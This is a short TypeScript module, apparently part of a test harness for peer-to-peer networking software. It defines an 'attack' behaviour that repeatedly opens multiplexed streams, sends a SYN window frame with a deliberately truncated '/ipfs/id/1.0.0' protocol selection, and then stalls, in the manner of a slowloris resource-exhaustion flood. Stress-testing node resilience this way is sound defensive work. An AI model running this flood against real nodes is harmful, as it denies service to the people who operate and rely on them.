/** Streams that say half a word, and wait. */
import type { Behaviour } from '../attack/target.js'
import { data, FLAG, flooding, FRAME, header, select, streams } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 8, (stream) => Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), data(stream, select('/ipfs/id/1.0.0').subarray(0, 25))])), { ms: 50 })
